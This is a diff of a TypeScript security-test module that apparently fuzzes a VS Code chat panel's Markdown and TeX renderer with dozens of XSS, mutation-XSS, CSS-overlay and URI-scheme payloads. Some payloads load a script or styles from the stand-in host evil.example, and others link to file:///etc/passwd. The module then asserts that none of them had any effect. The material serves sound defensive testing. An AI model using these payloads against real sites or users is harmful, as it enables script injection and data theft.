@@ -1,69 +1,69 @@
-/** Texts that mean harm, and how to see that they did none. */
+/** Attacks, and checks that they had no effect. */
 import assert from 'node:assert/strict';
 import type { PanelPage } from './panelPage';
 
-/** What an attack does when it succeeds: the page then has `hacked`. */
-const act = 'globalThis.hacked=1';
+/** The attacks' script: sets a global, `hacked`, if it runs. */
+const payload = 'globalThis.hacked=1';
 
-/** Where attacks would have requests go; nothing answers there. */
-const elsewhere = 'https://evil.example';
+/** The server that attacks send requests to; it does not exist. */
+const attackerUrl = 'https://evil.example';
 
-/** Attacks on what shows Markdown, each one a whole message. */
+/** Attacks on the Markdown renderer, each a whole message. */
 export const attacks: Record<string, string> = {
-  'a script': `<script>${act}</script>`,
-  'a script in SVG': `<svg><script>${act}</script></svg>`,
-  'a script in a broken tag': `<scr<script>ipt>${act}</scr</script>ipt>`,
-  'a script from elsewhere': `<script src="${elsewhere}/x.js"></script>`,
-  'an event handler': `<img src=x onerror="${act}">`,
-  'an event handler without quotes': `<svg/onload=${act}>`,
-  'an event handler of details': `<details open ontoggle=${act}>`,
-  'an event handler of animation': `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${act}">`,
-  'an attribute that breaks out of a link': `[x](https://a.example/"onmouseover="${act}"x=")`,
-  'an attribute that breaks out of a title': `[x](https://a.example 'a" onfocus="${act}" autofocus="')`,
-  'an attribute that breaks out of an image': `![x" onerror="${act}](https://a.example/x.png "y' onload='${act}")`,
-  'a fence whose language is an attribute': `- a\n\n  \`\`\`"onclick="${act}"\n  x\n  \`\`\``,
-  'a fence whose language is a tag': `\`\`\`</code></pre><img/src=x/onerror=${act}>\nx\n\`\`\``,
-  'a fence that closes its elements': `\`\`\`html\n</code></pre></div><script>${act}</script>\n\`\`\``,
-  'a fence that is never closed': `\`\`\`\n</pre><img src=x onerror=${act}>`,
+  'a script': `<script>${payload}</script>`,
+  'a script in SVG': `<svg><script>${payload}</script></svg>`,
+  'a script in a broken tag': `<scr<script>ipt>${payload}</scr</script>ipt>`,
+  'a script from elsewhere': `<script src="${attackerUrl}/x.js"></script>`,
+  'an event handler': `<img src=x onerror="${payload}">`,
+  'an event handler without quotes': `<svg/onload=${payload}>`,
+  'an event handler of details': `<details open ontoggle=${payload}>`,
+  'an event handler of animation': `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${payload}">`,
+  'an attribute that breaks out of a link': `[x](https://a.example/"onmouseover="${payload}"x=")`,
+  'an attribute that breaks out of a title': `[x](https://a.example 'a" onfocus="${payload}" autofocus="')`,
+  'an attribute that breaks out of an image': `![x" onerror="${payload}](https://a.example/x.png "y' onload='${payload}")`,
+  'a fence whose language is an attribute': `- a\n\n  \`\`\`"onclick="${payload}"\n  x\n  \`\`\``,
+  'a fence whose language is a tag': `\`\`\`</code></pre><img/src=x/onerror=${payload}>\nx\n\`\`\``,
+  'a fence that closes its elements': `\`\`\`html\n</code></pre></div><script>${payload}</script>\n\`\`\``,
+  'a fence that is never closed': `\`\`\`\n</pre><img src=x onerror=${payload}>`,
   style: '<style>*{position:fixed;top:0;left:0;background:red}</style>',
-  'a style from elsewhere': `<link rel=stylesheet href="${elsewhere}/x.css"><style>@import url(${elsewhere}/y.css)</style>`,
-  'an address in CSS': `<p style="background:url(${elsewhere}/x.png)">x</p>`,
+  'a style from elsewhere': `<link rel=stylesheet href="${attackerUrl}/x.css"><style>@import url(${attackerUrl}/y.css)</style>`,
+  'an address in CSS': `<p style="background:url(${attackerUrl}/x.png)">x</p>`,
   'an overlay': '<div style="position:fixed;inset:0;z-index:99999">x</div>',
-  base: `<base href="${elsewhere}/">[x](/y)`,
-  refresh: `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
-  'a frame': `<iframe src="${elsewhere}"></iframe><iframe srcdoc="<script>${act}</script>"></iframe>`,
-  'an object': `<object data="${elsewhere}/x.swf"></object><embed src="${elsewhere}/x.swf">`,
-  'a form': `<form action="${elsewhere}"><input name=password><button formaction="javascript:${act}">x</button></form>`,
-  'prefetched links': `<link rel=prefetch href="${elsewhere}/a"><link rel=dns-prefetch href="${elsewhere}"><a ping="${elsewhere}" href="https://a.example">x</a>`,
-  'an image elsewhere': `![x](${elsewhere}/x.png) <img src="${elsewhere}/y.png"> ![x][y]\n\n[y]: ${elsewhere}/z.png`,
-  'sound and pictures': `<video poster="${elsewhere}/a"><source src="${elsewhere}/b"></video><audio src="${elsewhere}/c"></audio><picture><source srcset="${elsewhere}/d"></picture>`,
-  'SVG that loads': `<svg><image href="${elsewhere}/x.png"/><use href="${elsewhere}/y.svg#z"/></svg>`,
-  'a script’s address': `[x](javascript:${act}) [x](java\nscript:${act}) <javascript:${act}> [x](&#106;avascript:${act}) [x](javascript&colon;${act})`,
-  'a script’s address in SVG': `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
+  base: `<base href="${attackerUrl}/">[x](/y)`,
+  refresh: `<meta http-equiv="refresh" content="0;url=${attackerUrl}">`,
+  'a frame': `<iframe src="${attackerUrl}"></iframe><iframe srcdoc="<script>${payload}</script>"></iframe>`,
+  'an object': `<object data="${attackerUrl}/x.swf"></object><embed src="${attackerUrl}/x.swf">`,
+  'a form': `<form action="${attackerUrl}"><input name=password><button formaction="javascript:${payload}">x</button></form>`,
+  'prefetched links': `<link rel=prefetch href="${attackerUrl}/a"><link rel=dns-prefetch href="${attackerUrl}"><a ping="${attackerUrl}" href="https://a.example">x</a>`,
+  'an image elsewhere': `![x](${attackerUrl}/x.png) <img src="${attackerUrl}/y.png"> ![x][y]\n\n[y]: ${attackerUrl}/z.png`,
+  'sound and pictures': `<video poster="${attackerUrl}/a"><source src="${attackerUrl}/b"></video><audio src="${attackerUrl}/c"></audio><picture><source srcset="${attackerUrl}/d"></picture>`,
+  'SVG that loads': `<svg><image href="${attackerUrl}/x.png"/><use href="${attackerUrl}/y.svg#z"/></svg>`,
+  'a script’s address': `[x](javascript:${payload}) [x](java\nscript:${payload}) <javascript:${payload}> [x](&#106;avascript:${payload}) [x](javascript&colon;${payload})`,
+  'a script’s address in SVG': `<svg><a xlink:href="javascript:${payload}"><text y=20>x</text></a></svg>`,
   'addresses of VS Code':
     '[x](command:workbench.action.quit) [x](vscode://file/etc/passwd) <command:x> [x](vscode-resource:/etc)',
-  'data as an address': `[x](data:text/html,<script>${act}</script>) ![x](data:image/svg+xml,<svg/onload=${act}>)`,
+  'data as an address': `[x](data:text/html,<script>${payload}</script>) ![x](data:image/svg+xml,<svg/onload=${payload}>)`,
   'addresses of local files':
     '[x](file:///etc/passwd) ![x](file:///etc/passwd) [x](\\\\evil.example\\share) [x](//evil.example/x)',
-  'a script’s address by reference': `[x]\n\n[x]: javascript:${act}`,
-  'MathML that changes when read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
-  'noscript that changes when read again': `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
-  'a template that changes when read again': `<template><s><style></template><img src=x onerror=${act}></style>`,
-  'a form that changes when read again': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
-  'SVG that changes when read again': `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
-  'a comment that ends early': `<!--><img src=x onerror=${act}>--> <!----!><img src=x onerror=${act}>-->`,
-  'CDATA and instructions': `<![CDATA[<img src=x onerror=${act}>]]> <?xml-stylesheet href="javascript:${act}"?>`,
-  'an end of the page': `</div></body></html><script>${act}</script><body onload=${act}>`,
+  'a script’s address by reference': `[x]\n\n[x]: javascript:${payload}`,
+  'MathML that changes when read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
+  'noscript that changes when read again': `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
+  'a template that changes when read again': `<template><s><style></template><img src=x onerror=${payload}></style>`,
+  'a form that changes when read again': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${payload}>`,
+  'SVG that changes when read again': `<svg></p><style><a id="</style><img src=1 onerror=${payload}>">`,
+  'a comment that ends early': `<!--><img src=x onerror=${payload}>--> <!----!><img src=x onerror=${payload}>-->`,
+  'CDATA and instructions': `<![CDATA[<img src=x onerror=${payload}>]]> <?xml-stylesheet href="javascript:${payload}"?>`,
+  'an end of the page': `</div></body></html><script>${payload}</script><body onload=${payload}>`,
   plaintext: `<plaintext><listing><xmp><textarea><title><noembed>`,
   'names that shadow the page’s own':
     '<a id=root></a><img name=body><form id=standIn><input name=posted></form><a id=acquireVsCodeApi>',
-  entities: `&lt;script&gt;${act}&lt;/script&gt; &#60;img src=x onerror=${act}&#62; &amp;lt;b&amp;gt; &#0; &#x110000;`,
-  'a null in a tag': `<scr\0ipt>${act}</scr\0ipt><img src=x o\0nerror=${act}>`,
-  'TeX that links': `$\\href{javascript:${act}}{x}$ $\\url{javascript:${act}}$ $\\href{${elsewhere}}{x}$`,
-  'TeX that loads': `$\\includegraphics[width=5em]{${elsewhere}/x.png}$`,
+  entities: `&lt;script&gt;${payload}&lt;/script&gt; &#60;img src=x onerror=${payload}&#62; &amp;lt;b&amp;gt; &#0; &#x110000;`,
+  'a null in a tag': `<scr\0ipt>${payload}</scr\0ipt><img src=x o\0nerror=${payload}>`,
+  'TeX that links': `$\\href{javascript:${payload}}{x}$ $\\url{javascript:${payload}}$ $\\href{${attackerUrl}}{x}$`,
+  'TeX that loads': `$\\includegraphics[width=5em]{${attackerUrl}/x.png}$`,
   'TeX that writes attributes': `$\\htmlClass{header}{x} \\htmlId{root}{x} \\htmlStyle{position:fixed}{x} \\htmlData{a=b}{x}$`,
-  'TeX that holds HTML': `$\\text{<img src=x onerror=${act}>} \\unknown<script>${act}</script>$`,
-  'TeX that breaks out of a style': `$\\color{red" onclick="${act}}{x} \\textcolor{url(${elsewhere})}{x} \\colorbox{red;position:fixed}{x}$`,
+  'TeX that holds HTML': `$\\text{<img src=x onerror=${payload}>} \\unknown<script>${payload}</script>$`,
+  'TeX that breaks out of a style': `$\\color{red" onclick="${payload}}{x} \\textcolor{url(${attackerUrl})}{x} \\colorbox{red;position:fixed}{x}$`,
   'TeX that writes styles in a text': `$\\text{ style="position:fixed;inset:0"} x$`,
   'TeX above its place': 'a\n\n$\\smash{\\rule[1em]{19em}{15em}}$',
   'TeX below its place': '$\\smash{\\rule[-15em]{19em}{15em}}$',
@@ -77,7 +77,7 @@ export const attacks: Record<string, string> = {
   'a wide table': `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|b'.repeat(500)}|`,
 };
 
-/** Pieces that attacks are made of, to be put together in ways that nobody thought of. */
+/** Fragments of attacks, for random combinations. */
 export const fragments: readonly string[] = [
   ...['<', '>', '</', '/>', '"', "'", '=', '&', '\\', '`', '``', '```', '~~~', '\n', '\n\n', ' ', '\t', '\0'],
   ...['<script>', '</script>', '<style>', '</style>', '<svg>', '</svg>', '<math>', '</math>', '<mtext>'],
@@ -85,12 +85,12 @@ export const fragments: readonly string[] = [
   ...['<img src=x onerror=', '<iframe srcdoc="', '<a href="', '<form id=x>', '<base href=', '<plaintext>'],
   ...[' onload=', ' style="position:fixed;inset:0"', ' id="root"', ' class="header"', ' src=', ' srcset='],
   ...[
-    act,
-    `url(${elsewhere}/x)`,
+    payload,
+    `url(${attackerUrl}/x)`,
     'javascript:',
     'data:text/html,',
     'command:x',
-    `${elsewhere}/y`,
+    `${attackerUrl}/y`,
     'sandbox:/x',
   ],
   ...[
@@ -126,15 +126,15 @@ export const fragments: readonly string[] = [
   ...['\u202e', '\u2066', '\u2069', '\u200b', '\u200d', '\ufeff', '\ud800', '\u0301', '\u{e0041}'],
 ];
 
-interface Place {
+interface Bounds {
   x: number;
   y: number;
   width: number;
   height: number;
 }
 
-/** Where the parts of the panel are that no message may move. */
-export async function framePlaces(panel: PanelPage): Promise<Place[]> {
+/** The bounds of the elements that no message may move. */
+export async function frameBounds(panel: PanelPage): Promise<Bounds[]> {
   return panel.page.evaluate(() =>
     ['.header', '.panel-main', '.message-scroller', '.composer'].map((selector) => {
       const { x, y, width, height } = document.querySelector(selector)!.getBoundingClientRect();
@@ -143,16 +143,16 @@ export async function framePlaces(panel: PanelPage): Promise<Place[]> {
   );
 }
 
-/** The panel shows what it was given, and nothing in it acts, loads, or stands where it does not belong. */
-export async function assertHarmless(panel: PanelPage, frame?: Place[]): Promise<void> {
+/** Asserts that no script ran, nothing was loaded, and nothing is painted outside of its box. */
+export async function assertHarmless(panel: PanelPage, frame?: Bounds[]): Promise<void> {
   const url = panel.page.url();
   assert.deepEqual(await panel.page.evaluate(findHarm), []);
-  if (frame) assert.deepEqual(await framePlaces(panel), frame);
+  if (frame) assert.deepEqual(await frameBounds(panel), frame);
   assert.equal(panel.page.frames().length, 1);
   assert.equal(panel.page.url(), url);
 }
 
-/** Runs in the page. */
+/** Runs in the page; returns what the attacks achieved. */
 function findHarm(): string[] {
   const harm: string[] = [];
   if ('hacked' in globalThis) harm.push('a script ran');
@@ -188,7 +188,7 @@ function findHarm(): string[] {
     harm.push('an element that acts');
   }
 
-  // What a point shows belongs to the part of the panel that lies there, and a message's head is its own.
+  // No element covers another part of the panel, or another message's head.
   const areas = ['.header', '.composer', '.message-head', '.call-head', '.message-body', '.jump-to-latest'];
   const scroller = document.querySelector('.message-scroller')!.getBoundingClientRect();
   for (const area of document.querySelectorAll(areas.join())) {
